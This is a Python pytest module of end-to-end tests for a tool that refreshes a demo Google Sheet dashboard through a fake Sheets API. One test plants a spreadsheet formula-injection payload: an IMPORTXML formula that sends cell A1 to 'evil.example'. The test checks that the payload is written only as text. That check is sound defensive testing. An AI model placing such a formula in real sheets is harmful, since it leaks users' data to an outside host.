"""End to end: the demo workbook refreshed in a (fake) Google Sheet through the real pipeline."""

from __future__ import annotations

import datetime as dt
import json

import pytest

from sheetsync.refresh import run_refresh
from sheetsync.sample import build_tabs
from sheetsync.sources.google.sheets_source import GoogleSheetsSource
from tests.fakesheets import fixture
from tests.fakesheets.helpers import SPREADSHEET_ID, FakeTime
from tests.fakesheets.load import fitted_grid

fake_sheets = fixture.fake_sheets
service_account_info = fixture.service_account_info
sheets_credentials = fixture.sheets_credentials

END = dt.date(2025, 12, 31)
NOW = dt.datetime(2025, 12, 31, 7, 0, tzinfo=dt.UTC)

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def demo_tabs() -> dict[str, list[list]]:
    """The demo workbook's tabs (what `sheetsync sample` writes), as rows of Python values."""
    frames, _planted = build_tabs(seed=42, months=12, end=END)
    return {
        title: [
            list(frame.columns),
            *frame.astype(object).where(frame.notna(), None).values.tolist(),
        ]
        for title, frame in frames.items()
    }


def load_demo(fake, tabs) -> None:
    """The demo as a Google Sheet: an xlsx imported into Sheets gets grids fitted to its data."""
    fake.create(
        SPREADSHEET_ID,
        "Demo",
        tabs,
        locale="fr_FR",
        time_zone="Europe/Paris",
        grid=fitted_grid(tabs),
    )


def refresh(credentials, when: dt.datetime = NOW):
    clock = FakeTime()
    source = GoogleSheetsSource(SPREADSHEET_ID, credentials, sleep=clock.sleep, clock=clock.clock)
    return run_refresh(source, today=END, now=when)


def test_a_refresh_of_the_demo_workbook_costs_exactly_three_calls(
    fake_sheets, sheets_credentials, demo_tabs
):
    load_demo(fake_sheets, demo_tabs)
    refresh(sheets_credentials)

    sheets_calls = [c.kind for c in fake_sheets.log if c.kind != "token"]
    # metadata, every cell of a grid under 1M cells in one read, one write
    assert sheets_calls == ["get", "batchGet", "batchUpdate"]
    assert all(c.status == 200 for c in fake_sheets.log)
    titles = [s.title for s in fake_sheets.book(SPREADSHEET_ID).sheets]
    assert titles == [*demo_tabs, "Dashboard", "Data issues"]
    for title, rows in demo_tabs.items():  # raw tabs untouched, value for value
        assert len(fake_sheets.values(SPREADSHEET_ID, title)) == len(rows)


def test_refreshing_again_keeps_sheet_ids_and_duplicates_nothing(
    fake_sheets, sheets_credentials, demo_tabs
):
    load_demo(fake_sheets, demo_tabs)

    def objects():
        return [
            (s.title, s.sheet_id, len(s.charts), len(s.conditional_formats),
             len(s.protected_ranges), len(s.banded_ranges), len(s.merges))
            for s in fake_sheets.book(SPREADSHEET_ID).sheets
        ]  # fmt: skip

    refresh(sheets_credentials)
    first = objects()
    refresh(sheets_credentials, NOW + dt.timedelta(hours=1))

    assert objects() == first
    assert first[-2][2] >= 1  # the Dashboard has its charts
    assert fake_sheets.calls["batchUpdate"] == 2


def test_user_text_reaches_the_sheet_as_text_never_as_a_formula(
    fake_sheets, sheets_credentials, demo_tabs
):
    tabs = {title: [list(r) for r in rows] for title, rows in demo_tabs.items()}
    signups = next(t for t in tabs if t.startswith("Inscrits"))
    header = [str(h).casefold() for h in tabs[signups][0]]
    column = next(i for i, h in enumerate(header) if h == "provenance")
    evil = '=IMPORTXML("https://evil.example/?q="&A1;"//a")'
    for row in tabs[signups][1:200]:
        row[column] = evil
    load_demo(fake_sheets, tabs)
    refresh(sheets_credentials)

    (body,) = fake_sheets.bodies("batchUpdate")
    assert "IMPORTXML" in json.dumps(body)  # the channel is on the dashboard...
    assert "IMPORTXML" not in _formulas(body)  # ...as text
    assert all("USER_ENTERED" not in json.dumps(c.params) for c in fake_sheets.log)
    shown = [v for row in fake_sheets.values(SPREADSHEET_ID, "Dashboard") for v in row]
    assert any(isinstance(v, str) and "IMPORTXML" in v for v in shown)


def _formulas(node) -> str:
    """Every formulaValue anywhere in a body, joined."""
    if isinstance(node, dict):
        own = [str(node["formulaValue"])] if "formulaValue" in node else []
        return " ".join(own + [_formulas(v) for v in node.values()])
    if isinstance(node, list):
        return " ".join(_formulas(v) for v in node)
    return ""


def test_a_timed_out_dashboard_write_is_replanned_without_a_second_add_sheet(
    fake_sheets, sheets_credentials, demo_tabs
):
    load_demo(fake_sheets, demo_tabs)
    fake_sheets.fail("batchUpdate", timeout=True, applied=True)
    refresh(sheets_credentials)

    sheets_calls = [c.kind for c in fake_sheets.log if c.kind != "token"]
    assert sheets_calls == ["get", "batchGet", "batchUpdate", "get", "batchUpdate"]
    first, second = fake_sheets.bodies("batchUpdate")
    assert sum("addSheet" in r for r in first["requests"]) == 2
    assert not any("addSheet" in r for r in second["requests"])
    dashboard = fake_sheets.book(SPREADSHEET_ID).sheet_by_title("Dashboard")
    added = [r["addSheet"]["properties"] for r in first["requests"] if "addSheet" in r]
    assert dashboard.sheet_id == next(p["sheetId"] for p in added if p["title"] == "Dashboard")
    charts = sum("addChart" in r for r in second["requests"])
    assert len(dashboard.charts) == charts  # the first write's charts were replaced, not kept


def test_a_teammates_edit_during_the_refresh_survives_the_write(
    fake_sheets, sheets_credentials, demo_tabs
):
    load_demo(fake_sheets, demo_tabs)
    spend = next(t for t in demo_tabs if t.startswith("Dépenses"))
    below = len(demo_tabs[spend])

    def teammate_types_a_row(fake) -> None:
        sheet = fake.book(SPREADSHEET_ID).sheet_by_title(spend)
        sheet.properties["gridProperties"]["rowCount"] += 1
        sheet.cells[(below, 0)] = {"userEnteredValue": {"stringValue": "2025-12-31"}}
        sheet.cells[(below, 1)] = {"userEnteredValue": {"stringValue": "Podcast"}}
        sheet.cells[(below, 2)] = {"userEnteredValue": {"numberValue": 99}}

    # Between our read and our write, as when someone types while the refresh computes.
    fake_sheets.before("batchUpdate", teammate_types_a_row)
    refresh(sheets_credentials)

    assert fake_sheets.values(SPREADSHEET_ID, spend)[below] == ["2025-12-31", "Podcast", 99]
    assert fake_sheets.calls["batchUpdate"] == 1


def _comparable(rows: list[list]) -> dict[tuple[int, int], object]:
    """Non-empty cells by position; formulas (Sheets sparklines) are not values to compare."""
    cells = {}
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            if value in (None, "") or (isinstance(value, str) and value.startswith("=")):
                continue
            cells[(r, c)] = round(value, 6) if isinstance(value, float) else value
    return cells


def test_the_sheet_dashboard_holds_what_the_xlsx_renderer_writes(
    fake_sheets, sheets_credentials, demo_tabs, tmp_path
):
    import openpyxl

    from sheetsync.sources.xlsx_file import XlsxSource
    from tests.conftest import write_xlsx

    load_demo(fake_sheets, demo_tabs)
    refresh(sheets_credentials)
    path = write_xlsx(tmp_path / "Demo.xlsx", demo_tabs)  # same title as the Google Sheet
    run_refresh(XlsxSource(path), today=END, now=NOW)
    book = openpyxl.load_workbook(path)
    for tab in ("Dashboard", "Data issues"):
        in_sheets = _comparable(fake_sheets.values(SPREADSHEET_ID, tab))
        in_xlsx = _comparable([list(r) for r in book[tab].iter_rows(values_only=True)])
        # xlsx shows each sparkline as text blocks where Sheets has a SPARKLINE formula.
        in_xlsx = {k: v for k, v in in_xlsx.items() if k in in_sheets or not _is_blocks(v)}
        assert in_sheets == in_xlsx, tab


def _is_blocks(value: object) -> bool:
    return isinstance(value, str) and bool(value) and set(value) <= set("▁▂▃▄▅▆▇█ ")
